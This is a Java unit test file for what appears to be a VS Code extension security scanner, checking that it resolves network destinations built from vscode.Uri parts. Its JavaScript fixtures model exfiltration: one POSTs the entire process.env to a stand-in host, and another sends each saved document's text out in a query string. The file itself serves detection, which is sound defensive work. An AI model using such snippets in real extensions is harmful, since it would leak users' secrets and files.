package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** Addresses that are put together as a {@code vscode.Uri}, of its parts. */
class EditorUrisTest {

    @Test
    void ofPartsIsTheirText() {
        assertThat(
                        destinations(
                                "vscode.Uri.from({ scheme: 'https', authority: 'parts.example', path: 'p', query: 'q=' + text })"))
                .containsExactly("https://parts.example/p?q=…");
    }

    @Test
    void withAnotherQueryKeepsTheRest() {
        assertThat(destinations("vscode.Uri.parse('https://with.example/p#f').with({ query: 'q=' + text })"))
                .containsExactly("https://with.example/p?q=…#f");
    }

    @Test
    void withAnotherAuthorityLeadsThere() {
        assertThat(
                        destinations(
                                "vscode.Uri.parse('https://first.example/p').with({ authority: 'second.example', query: text })"))
                .containsExactly("https://second.example/p?…");
    }

    @Test
    void givesItsParts() {
        Analysis analysis = Analysis.ofActivate("""
                const uri = vscode.Uri.parse('https://parts.example:8443/collect?key=1');
                fetch(uri.scheme + '://' + uri.authority + '/other?' + uri.query, { method: 'POST', body: JSON.stringify(process.env) });
                """);

        assertThat(analysis.destinations("environment", "network-send"))
                .containsExactly("https://parts.example:8443/other?key=1");
    }

    private static List<String> destinations(String uri) {
        Analysis analysis = Analysis.ofActivate("""
                vscode.workspace.onDidSaveTextDocument(document => {
                  const text = encodeURIComponent(document.getText());
                  fetch(ADDRESS.toString(true));
                });
                """.replace("ADDRESS", uri));
        return analysis.destinations("editor-document", "network-url");
    }
}
